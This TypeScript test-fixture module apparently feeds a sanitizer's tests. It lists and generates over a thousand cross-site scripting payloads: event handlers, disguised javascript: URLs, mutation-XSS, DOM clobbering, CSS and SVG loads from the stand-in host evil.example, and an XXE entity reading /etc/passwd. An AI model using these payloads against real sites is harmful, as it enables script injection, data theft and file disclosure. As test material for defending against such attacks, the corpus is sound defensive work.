/** What attackers and careless editors write, one family a block. Every dangerous part calls `canary`. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>canary()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  '<img src=x onerror=canary()>',
  '<img src="x" onerror="canary()" srcset="//evil.example/1.png 1x">',
  '<img/src=`x`onerror=canary()>',
  '<svg onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<svg><a xlink:href="javascript:canary()"><text>x</text></a></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=canary()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
  '<math><mi><mglyph><style><img src=x onerror=canary()>',
  '<math href="javascript:canary()">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<template><img src=x onerror=canary()></template>',
  '<style>@import "//evil.example/x.css"; body{background:url(//evil.example)}</style>',
  '<p style="background:url(//evil.example/x)">text</p>',
  '<div style="position:fixed;inset:0">covers everything</div>',
  '<iframe src="javascript:canary()"></iframe>',
  '<iframe srcdoc="<script>canary()</script>"></iframe>',
  '<object data="data:text/html,<script>canary()</script>"></object><embed src="//evil.example/x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<form action="//evil.example/"><input name="password"><button formaction="javascript:canary()">Sign in</button></form>',
  '<a href="javascript:canary()">x</a>',
  '<a href="JaVaScRiPt:canary()">x</a>',
  '<a href="java\tscript:canary()">x</a>',
  '<a href="&#106;avascript&colon;canary()">x</a>',
  '<a href="&#x6A;&#x61;vascript:canary()">x</a>',
  '<a href=" \u0001javascript:canary()">x</a>',
  '<a href="data:text/html,<script>canary()</script>">x</a>',
  '<a href="vbscript:canary()">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="/x" ping="//evil.example/" target="_top" onclick="canary()">x</a>',
  '<a href="/x" id="root" name="getElementById" class="modal">x</a>',
  '<img id="body" name="cookie" src="/pictures/x.avif">',
  '<img src="//evil.example/x.png"><img src="https://evil.example/x.png"><img src="data:image/svg+xml,<svg onload=canary()>">',
  '<video poster="//evil.example/x" src="//evil.example/x" onloadstart="canary()"></video>',
  '<audio src=x onerror=canary()>',
  '<details open ontoggle=canary()>x</details>',
  '<input autofocus onfocus=canary()>',
  '<select><option><img src=x onerror=canary()></option></select>',
  '<textarea><img src=x onerror=canary()></textarea>',
  '<title><img src=x onerror=canary()></title>',
  '<xmp><img src=x onerror=canary()></xmp>',
  '<plaintext><img src=x onerror=canary()>',
  '<!--><img src=x onerror=canary()>-->',
  '<!-- --!><img src=x onerror=canary()> -->',
  '<![CDATA[<img src=x onerror=canary()>]]>',
  '<?xml version="1.0"?><img src=x onerror=canary()>',
  '<table><tr><td><script>canary()</script></td></tr></table>',
  '<table><img src=x onerror=canary()></table>',
  '<p><table><p><img src=x onerror=canary()>',
  '<a><table><a href="javascript:canary()">x',
  '<b><p></b><i onclick=canary()>x</i>',
  '&lt;img src=x onerror=canary()&gt;',
  '&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;',
  '<x-element onclick=canary() is="y-element">x</x-element>',
  '<p slot="x" part="y" contenteditable tabindex=1 accesskey=x autofocus onfocus=canary()>x</p>',
  '<a href="/x\u2028"onmouseover="canary()">x</a>',
  '"><img src=x onerror=canary()>',
  "'-canary()-'",
  '<\u0000script>canary()</script>',
  '<img src=x onerror=canary()',
  '<a href="/x',
  '<p',
  '<',
  '<p>\ud800 lone surrogate</p>',
]

/** Nested as deep as somebody with patience would. */
export function deepHtml(levels: number): string[] {
  return [`${'<div>'.repeat(levels)}deep<img src=x onerror=canary()>`, `${'<b><i>'.repeat(levels / 2)}mixed</b>`]
}

/** What editors write, as both sides must show it. */
export const EDITORS_HTML: readonly string[] = [
  '<p>Plain <b>bold</b> and <em>stressed</em>.</p>',
  '<h2>Title</h2><p>Text with <a href="/videos/">a link</a>.</p>',
  '<p>Away: <a href="https://other.example/path?x=1#y">there</a>, <a href="mailto:help@example.com">mail</a>.</p>',
  '<ul><li>one</li><li>two<ul><li>three</li></ul></li></ul><ol start="3"><li>x</li></ol>',
  '<table><caption>C</caption><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
  '<p>One<br>two<br/>three</p><hr>',
  '<p>AT&amp;T &lt;3 &quot;quoted&quot; &copy; 2026 &nbsp; &mdash; é 日本 😀</p>',
  '<figure><img src="/pictures/x.avif" alt="A &quot;picture&quot;" width="640" height="360"><figcaption>C</figcaption></figure>',
  '<blockquote><p>Said</p></blockquote><pre>  two  spaces\n  line</pre>',
  '<p>Stray < and > and & signs</p>',
  '<div><section><article>x</article></section></div>',
  '<p>x<!-- comment -->y</p>',
  '<a href="#part">Part</a> <abbr title="Virtual reality">VR</abbr> <time datetime="2026-01-01">New Year</time>',
  '',
  'no markup at all',
]

/** Names that pages and the platform use: an element called so could be taken for them. */
const NAMES = [
  ...[
    'root',
    'handover',
    'settings',
    'main',
    'dialogs',
    'body',
    'head',
    'cookie',
    'forms',
    'domain',
    'referrer',
    'URL',
  ],
  ...[
    'getElementById',
    'querySelector',
    'createElement',
    'currentScript',
    'documentElement',
    'defaultView',
    'location',
  ],
  ...['attributes', 'childNodes', 'parentNode', 'nodeName', 'innerHTML', 'ownerDocument', 'children', 'removeChild'],
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'window', 'self', 'top'],
]

const SCHEMES = [
  'javascript:',
  'vbscript:',
  'livescript:',
  'data:text/html,<script>canary()</script>',
  'blob:',
  'file:///',
]

/** Ways to write an address so that a filter reads something else than a browser. */
const DISGUISES: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  (address) => `  ${address}`,
  (address) => `\u0001\u001f${address}`,
  (address) => `${address.slice(0, 4)}\t${address.slice(4)}`,
  (address) => `${address.slice(0, 4)}\n${address.slice(4)}`,
  (address) => `${address.slice(0, 4)}&NewLine;&Tab;${address.slice(4)}`,
  (address) => [...address].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
  (address) => [...address].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)}`).join(';'),
  (address) => [...address].map((letter) => `&#0000${letter.codePointAt(0)}`).join(''),
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&amp;colon;'),
  (address) => `\u200b\ufeff${address}`,
  (address) => `${address.slice(0, 2)}\0${address.slice(2)}`,
  (address) => `feed:${address}`,
  (address) => `view-source:${address}`,
  (address) => `//user@${address}`,
]

const SINKS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}canary()">x</a>`,
  (address) => `<img src="${address}canary()" srcset="${address}canary() 1x">`,
  (address) => `<svg><a xlink:href="${address}canary()"><text>x</text></a></svg>`,
  (address) => `<form action="${address}canary()"><button formaction="${address}canary()">x</button></form>`,
  (address) => `<iframe src="${address}canary()"></iframe><object data="${address}canary()"></object>`,
  (address) =>
    `<math><maction actiontype="statusline#${address}canary()" xlink:href="${address}canary()">x</maction></math>`,
]

const HANDLERS = [
  ...[
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'onmouseover',
    'onpointerenter',
    'onanimationstart',
    'ontransitionend',
  ],
  ...[
    'onbeforetoggle',
    'ontoggle',
    'onscrollend',
    'onwheel',
    'onpaste',
    'onbegin',
    'onrepeat',
    'oncontentvisibilityautostatechange',
  ],
]
const CARRIERS = ['a', 'img src=/pictures/x.avif', 'p', 'svg', 'details open', 'x-y', 'video src=x', 'td']
/** How a handler is put where a filter does not look for one. */
const SEAMS = [' ', '/', '\n', '\f', ' x="" ', '/x=/', ' "" ']

/** Where the meaning of markup changes: what is text in one is an element in the other. */
const FOREIGN = [
  'svg',
  'math',
  'svg><foreignObject',
  'svg><desc',
  'svg><title',
  'math><mtext',
  'math><annotation-xml encoding="text/html"',
]
const RAW = [
  'style',
  'title',
  'textarea',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'xmp',
  'script',
  'template',
  'plaintext',
]
const INNER = '<img src=x onerror=canary()>'

/** Markup that means something else once it was parsed, written and parsed again. */
const MUTATING: readonly string[] = [
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${INNER}">`,
  `<math><mtext><table><mglyph><style><math><img src onerror=canary()>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${INNER}"></style></h1>`,
  `<svg></p><style><a id="</style>${INNER}">`,
  `<svg><p><style><g title="</style>${INNER}">`,
  `<svg><desc><style></style></desc><style><!--</style>${INNER}-->`,
  `<math><mi><table><mi><style><!--</style>${INNER}-->`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${INNER}">`,
  `<noscript><style></noscript>${INNER}</style>`,
  `<a><table><a title="</a>${INNER}">x</table></a>`,
  `<table><caption><svg><desc><table><caption></caption>${INNER}`,
  `<p><svg><title><div><p id="</title>${INNER}"></div></title></svg>`,
  `<b><i><b><i><p><b><table><td></b></table>${INNER}`,
  `<dl><dt><dd><dt><form><dl>${INNER}`,
  `<option><select><optgroup><option>${INNER}`,
  `<frameset><frame src="javascript:canary()">`,
  `<div><frameset>${INNER}`,
  `<body onload=canary()><html manifest=x><head><base href=//evil.example>`,
  `<!--[if gte IE 4]><script>canary()</script><![endif]-->`,
  `<!--><script>canary()</script>-->`,
  `<!--->${INNER}-->`,
  `<!-- -- > --!>${INNER}`,
  `<!DOCTYPE x [<!ENTITY y "<script>canary()</script>">]>&y;`,
  `<? ?><?php ${INNER} ?>`,
  `<![CDATA[><script>canary()</script>]]>`,
  `</ ${INNER}>`,
  `</p ${INNER}>`,
  `<a href="/x" title='"${INNER}'>x</a>`,
  `<a href=/x\u00a0onclick=canary()>x</a>`,
  '<a href=`/x` onclick=`canary()`>x</a>',
  `<img alt="\`${INNER}\`" src=/pictures/x.avif>`,
  `<image src=x onerror=canary()><image href=x onerror=canary()>`,
  `<isindex type=image src=1 onerror=canary()>`,
  `<keygen autofocus onfocus=canary()><marquee onstart=canary()>x</marquee><blink onclick=canary()>x</blink>`,
  `<abbr title="&quot;&gt;${INNER}">x</abbr>`,
  `<pre>\n\n\n${INNER}</pre>`,
  `<p>&#0;&#13;&#xD800;&#x110000;&#128;&notit;&ngE;&#x1F600</p>`,
  `<p>\ud83d</p><p>\udc00 x</p>`,
  `+ADw-script+AD4-canary()+ADw-/script+AD4-`,
  `%3Cscript%3Ecanary()%3C/script%3E`,
  `\u{ff1c}script\u{ff1e}canary()\u{ff1c}/script\u{ff1e}`,
]

const STYLES = [
  ...['background:url(//evil.example)', 'background:u\\72l(//evil.example)', 'width:expression(canary())'],
  ...['-moz-binding:url(//evil.example#x)', 'behavior:url(//evil.example)', 'position:fixed;inset:0;z-index:9'],
  ...[
    '--x:url(//evil.example)',
    'cursor:url(//evil.example),auto',
    'list-style:url(//evil.example)',
    'content:url(//evil.example)',
  ],
]

const TABLES = [
  'table',
  'table><tr',
  'table><tbody',
  'table><caption',
  'table><colgroup',
  'ul><li',
  'dl><dt',
  'select><option',
]

/** Over a thousand payloads in eight families: protocols, handlers, namespaces, mutation, clobbering, CSS, structure and depth. */
export function hostileCorpus(): readonly string[] {
  const each = <A, B>(as: readonly A[], bs: readonly B[], join: (a: A, b: B) => string) =>
    as.flatMap((a) => bs.map((b) => join(a, b)))
  return [
    ...HOSTILE_HTML,
    ...each(SCHEMES, DISGUISES, (scheme, disguise) => disguise(scheme)).flatMap((address) =>
      SINKS.map((sink) => sink(address)),
    ),
    ...each(CARRIERS, HANDLERS, (carrier, handler) => `<${carrier} ${handler}=canary()>x`),
    ...each(SEAMS, HANDLERS.slice(0, 4), (seam, handler) => `<a href=/x${seam}${handler}="canary()">x</a>`),
    ...each(FOREIGN, RAW, (foreign, raw) => `<${foreign}><${raw}><x title="</${raw}>${INNER}">${INNER}`),
    ...each(FOREIGN, RAW, (foreign, raw) => `<${raw}><${foreign}></${raw}>${INNER}<!--</${foreign}>${INNER}-->`),
    ...MUTATING,
    ...each(
      NAMES,
      ['a', 'form', 'img src=/pictures/x.avif', 'svg'],
      (name, tag) => `<${tag} id=${name} name=${name}>x</${tag}>`,
    ),
    ...each(
      NAMES,
      ['href', 'src', 'title'],
      (name, other) => `<a ${name}=canary() ${other}=/x>x</a><${name}>x</${name}>`,
    ),
    ...STYLES.flatMap((style) => [
      `<p style="${style}">x</p>`,
      `<style>p{${style}}</style><p>x</p>`,
      `<td style='${style}'>x`,
    ]),
    ...each(
      TABLES,
      ['<p>', '<a href=/x>', '<td>', '<li>', '<tr>', INNER],
      (table, inside) => `<${table}>x${inside}y<b>z</${table.slice(0, 2)}>`,
    ),
    ...['div', 'b', 'table><td', 'ul><li', 'a', 'svg', 'math><mtext', 'blockquote', 'font'].flatMap((tag) => [
      `${`<${tag}>`.repeat(400)}${INNER}`,
      `${`<${tag}>`.repeat(60)}${INNER}${`</${tag}>`.repeat(30)}after`,
    ]),
  ]
}

/** Drawings that try to do more than be drawn. */
export const HOSTILE_ICONS: readonly string[] = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="canary()"><path d="M0 0"/></svg>',
  '<svg><script>canary()</script><path d="M0 0"/></svg>',
  '<svg><foreignObject><iframe src="javascript:canary()"></iframe></foreignObject><path d="M0 0"/></svg>',
  '<svg><animate attributeName="href" to="javascript:canary()"/><set attributeName="onload" to="canary()"/><path d="M0 0"/></svg>',
  '<svg><a href="javascript:canary()"><path d="M0 0"/></a></svg>',
  '<svg><use href="//evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml,x#a"/><path d="M0 0"/></svg>',
  '<svg><image href="//evil.example/x.png"/><feImage href="//evil.example/x.png"/><path d="M0 0"/></svg>',
  '<svg><style>*{background:url(//evil.example)}</style><path d="M0 0" style="fill:url(//evil.example)"/></svg>',
  '<svg><path d="M0 0" fill="url(//evil.example/x)" mask="url(https://evil.example/#m)"/></svg>',
  '<svg><path d="M0 0" fill="u\\72l(//evil.example/x)"/></svg>',
  '<svg><path d="M0 0" fill="\\75\\72\\6c(//evil.example/x)" stroke="\\000075rl(//evil.example/x)" mask="ur\\l(//evil.example/x)"/></svg>',
  '<svg><path d="M0 0" fill="u/**/rl(//evil.example/x)" stroke="url/**/(//evil.example/x)" clip-path="/**/url(//evil.example/x)"/></svg>',
  '<svg><path d="M0 0" fill="URL(//evil.example/x)" stroke="url (//evil.example/x)" mask="url(\n//evil.example/x)"/></svg>',
  '<svg><path d="M0 0" fill="&#117;rl(//evil.example/x)" stroke="u&#92;72l(//evil.example/x)" mask="url&lpar;//evil.example/x&rpar;"/></svg>',
  '<svg><path d="M0 0" fill="url(#ok) url(//evil.example/x)" stroke="red, url(//evil.example/x)" mask="url(#a)/**/,url(//evil.example/x)"/></svg>',
  '<svg><path d="M0 0" fill="image-set(\'//evil.example/x\' 1x)" stroke="image(//evil.example/x)" mask="src(\'//evil.example/x\')"/></svg>',
  '<svg><path d="M0 0" fill="-webkit-image-set(\'//evil.example/x\' 1x)" stroke="cross-fade(\'//evil.example/x\', red)" mask="element(#x) paint(evil)"/></svg>',
  '<svg><path d="M0 0" fill="var(--evil, url(//evil.example/x))" stroke="env(evil)" mask="attr(evil)"/></svg>',
  '<svg><path d="M0 0" filter="url(//evil.example/x)" marker-end="url(//evil.example/x)" cursor="url(//evil.example/x), auto"/></svg>',
  '<svg><defs><linearGradient id="a" href="//evil.example/x.svg#a"/><radialGradient id="b" xlink:href="https://evil.example/x.svg#b"/></defs><path d="M0 0"/></svg>',
  '<svg><path d="M0 0"/><title><img src=x onerror=canary()></title><desc><script>canary()</script></desc></svg>',
  '<svg><path d="M0 0"/><script xlink:href="//evil.example/x.js"/><handler type="application/ecmascript">canary()</handler></svg>',
  '<?xml-stylesheet href="//evil.example/x.css"?><svg><path d="M0 0"/></svg>',
  '<svg xmlns:x="http://www.w3.org/1999/xhtml"><path d="M0 0"/><x:script>canary()</x:script><x:img src="x" onerror="canary()"/></svg>',
  '<svg><![CDATA[<script>canary()</script>]]><path d="M0 0"/></svg>',
  '<svg><path d="M0 0"/></svg><script>canary()</script><img src=x onerror=canary()>',
  '<svg><path d="M0 0" id="x&quot; onload=&quot;canary()"/></svg>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><path d="M0 0"/><text>&x;</text></svg>',
]
